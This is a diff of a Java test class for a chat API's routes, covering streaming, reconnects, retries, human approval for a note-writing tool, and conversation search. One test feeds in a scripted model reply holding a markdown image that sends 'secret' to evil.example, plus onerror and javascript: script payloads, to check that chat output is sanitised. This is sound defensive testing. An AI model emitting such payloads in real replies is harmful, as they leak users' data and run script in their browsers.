@@ -9,11 +9,13 @@ import dev.datastudio.agents.tool.Tools;
 import dev.datastudio.api.tenant.Caller;
 import dev.datastudio.api.tool.ToolResult;
 import dev.datastudio.app.AppServer;
+import dev.datastudio.app.Belongings;
 import dev.datastudio.app.Person;
 import dev.datastudio.app.identity.account.Sessions;
 import dev.datastudio.core.Studio;
 import dev.datastudio.core.conversation.Conversations;
 import dev.datastudio.core.conversation.Message;
+import dev.datastudio.core.conversation.Turn;
 import dev.datastudio.core.conversation.Turns;
 import dev.datastudio.testkit.model.ModelReply;
 import dev.datastudio.testkit.model.ScriptedModelServer;
@@ -24,7 +26,6 @@ import java.util.List;
 import java.util.Objects;
 import java.util.UUID;
 import java.util.concurrent.CountDownLatch;
-import java.util.concurrent.TimeUnit;
 import java.util.concurrent.atomic.AtomicInteger;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
@@ -71,12 +72,7 @@ class ChatRoutesTest {
     void dataAndDocumentsAreAskedInOneQuestion() {
         String data = ChatBench.orders(ada);
         byte[] terms = "Goods are sent back within thirty days.".getBytes(StandardCharsets.UTF_8);
-        String document = ada.sendFile("/api/v1/documents", "returns.txt", terms)
-                .is(202)
-                .json()
-                .path("id")
-                .asString();
-        ada.get("/api/v1/documents/" + document + "/events").is(200); // ends when it was read
+        Belongings.document(ada, "returns.txt", terms);
         String id = ChatBench.conversation(ada);
         String context = "'context':{'datasetIds':['" + data + "'],'documents':true}}";
 
@@ -109,7 +105,7 @@ class ChatRoutesTest {
 
     @Test
     void aModelHasTheToolsForDataAndForDocuments() {
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         server.inTurn(ModelReply.text("Both."));
         String data = ChatBench.orders(ada);
         String id = ChatBench.conversation(ada);
@@ -127,7 +123,7 @@ class ChatRoutesTest {
 
     @Test
     void anAnswerIsStreamedUnderTheNamesThatClientsKnow() {
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         server.inTurn(ModelReply.pieces("Forty", "-", "two"));
         String id = ChatBench.conversation(ada);
 
@@ -159,7 +155,7 @@ class ChatRoutesTest {
 
     @Test
     void aReconnectInMidStreamLosesNothingAndDoublesNothing() throws InterruptedException {
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         CountDownLatch held = new CountDownLatch(1);
         server.inTurn(ModelReply.pieces("one ", "two ", "three ", "four").heldAfter(2, held));
         String id = ChatBench.conversation(ada);
@@ -194,7 +190,7 @@ class ChatRoutesTest {
 
     @Test
     void aClientThatGoesStopsNothingButAStopDoes() throws InterruptedException {
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         CountDownLatch held = new CountDownLatch(1);
         server.inTurn(
                 ModelReply.pieces("kept ", "on").heldAfter(1, held),
@@ -224,7 +220,7 @@ class ChatRoutesTest {
 
     @Test
     void aMessageThatIsSentTwiceUnderOneKeyIsAskedOnce() {
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         server.inTurn(ModelReply.text("Once."), ModelReply.text("Twice."));
         String id = ChatBench.conversation(ada);
         String key = UUID.randomUUID().toString();
@@ -250,21 +246,21 @@ class ChatRoutesTest {
     }
 
     @Test
-    void aQuestionWhoseProcessBrokeOffIsKeptAndAskedAgain() throws InterruptedException {
+    void aQuestionWhoseProcessBrokeOffIsKeptAndAskedAgain() {
         Studio studio = AppServer.shared().bean(Studio.class);
         String data = ChatBench.orders(ada);
         String id = ChatBench.conversation(ada);
         Caller caller = ChatBench.caller(ada);
         String asked = "{\"agent\":\"auto\",\"sources\":[\"" + data + "\"]}";
         Conversations.of(studio.metadata(), caller).addAfter(id, 0, Message.Role.USER, "total sales by region", asked);
-        Turns.of(studio.metadata(), caller, studio.clock()).begin(id, "gone", Duration.ofMillis(600));
+        Turns turns = Turns.of(studio.metadata(), caller, studio.clock());
+        Turn gone = turns.begin(id, "gone", Duration.ofHours(1));
 
         String path = "/api/v1/conversations/" + id;
         assertTrue(ada.get(path).is(200).json().path("busy").asBoolean(), "as long as it may go on elsewhere");
         ada.send(ada.request(path + "/events").GET()).is(204);
-        while (ada.get(path).is(200).json().path("busy").asBoolean()) {
-            TimeUnit.MILLISECONDS.sleep(50);
-        }
+        turns.renew(gone, Duration.ZERO); // as when nobody renews it
+        assertFalse(ada.get(path).is(200).json().path("busy").asBoolean(), "nobody has it any more");
         JsonNode kept = ada.get(messages(id)).is(200).json().path("items");
         JsonNode answer = ada.post(messages(id) + "/1/retry", "").is(200).json();
 
@@ -277,7 +273,7 @@ class ChatRoutesTest {
     @Test
     @Timeout(60)
     void aStreamEndsWithTheSessionOfWhoeverFollowsIt() {
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         CountDownLatch held = new CountDownLatch(1);
         server.inTurn(ModelReply.pieces("Going ", "on.").heldAfter(1, held));
         String id = ChatBench.conversation(ada);
@@ -298,14 +294,14 @@ class ChatRoutesTest {
     record Note(String text) {}
 
     @Test
-    void aToolThatDoesMoreThanReadWaitsForWhoeverAsked() {
+    void aToolThatDoesMoreThanReadWaitsForWhoeverAsked() throws InterruptedException {
         Studio studio = AppServer.shared().bean(Studio.class);
         AtomicInteger written = new AtomicInteger();
         ToolRegistry.of(studio).register(Tools.writing("write_note_x", "Writes a note", Note.class, (note, context) -> {
             written.incrementAndGet();
             return ToolResult.of("Written.");
         }));
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         JsonNode agent = ada.get("/api/v1/agents/data_analyst").is(200).json();
         ada.put(
                         "/api/v1/agents/data_analyst",
@@ -316,6 +312,8 @@ class ChatRoutesTest {
         server.inTurn(
                 ModelReply.toolCall("write_note_x", call),
                 ModelReply.text("Kept."),
+                ModelReply.toolCall("write_note_x", call),
+                ModelReply.text("Kept, too."),
                 ModelReply.toolCall("write_note_x", call),
                 ModelReply.text("Not kept."));
         String id = ChatBench.conversation(ada);
@@ -343,15 +341,27 @@ class ChatRoutesTest {
         }
         assertEquals(1, written.get());
 
+        try (ChatBench.Socket socket = ChatBench.Socket.open(ada, "/ws/chat/" + id)) {
+            socket.send("{'type':'message'," + question.substring(1));
+            JsonNode asked = socket.until("approval_needed");
+            assertEquals("write_note_x", asked.path("tool").asString());
+            assertEquals(1, written.get());
+            ada.post(approve, "{'approval':'" + asked.path("approval").asString() + "','approved':true}")
+                    .is(204);
+            List<JsonNode> rest = socket.turn();
+            assertEquals("Kept, too.", rest.get(rest.size() - 1).path("text").asString());
+        }
+        assertEquals(2, written.get());
+
         // Whoever waits for a whole answer can't be asked.
         ada.post(messages(id), question).is(200);
-        assertEquals(1, written.get());
+        assertEquals(2, written.get());
         ada.post(approve, "{'approval':'1','approved':true}").is(409);
     }
 
     @Test
     void branchesAreBegunShownAndChosen() {
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         server.inTurn(ModelReply.text("First."), ModelReply.text("Second."), ModelReply.text("Third."));
         String id = ChatBench.conversation(ada);
         ada.post(messages(id), "{'message':'A?','agent':'data_analyst'}").is(200);
@@ -406,6 +416,15 @@ class ChatRoutesTest {
 
         assertEquals(1, items("?q=north").size());
         assertEquals(1, items("?agent=sql_expert").size());
+        ada.post(messages(id), "{'message':'What of the harbour?'}").is(200);
+        assertEquals(
+                "What of the ", items("?q=HARBOUR").get(0).at("/said/before").asString());
+        assertEquals(0, items("?q=harbour&agent=data_analyst").size());
+        ada.get("/api/v1/conversations?q=" + "x".repeat(201)).is(400);
+        Person eve = AppServer.shared().newPerson();
+        assertEquals(
+                0,
+                eve.get("/api/v1/conversations?q=harbour").json().path("items").size());
         ada.patch("/api/v1/conversations/" + id, "{'status':'archived','title':'Done'}")
                 .is(200);
         assertEquals("Done", items("?status=archived").get(0).path("title").asString());
@@ -441,7 +460,7 @@ class ChatRoutesTest {
 
     @Test
     void whatComesOutOfAChatLoadsAndRunsNothing() {
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         server.inTurn(ModelReply.text("![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)>"
                 + " [click](javascript:alert(1)) <a href='javascript:alert(1)'>y</a> **bold**"));
         String id = ChatBench.conversation(ada);
@@ -474,7 +493,7 @@ class ChatRoutesTest {
 
     @Test
     void aModelThatFailsIsToldWithItsMend() {
-        ChatBench.addModel(ada, server);
+        Belongings.addModel(ada, server);
         server.inTurn(ModelReply.error(500, "broken"));
         String id = ChatBench.conversation(ada);
 
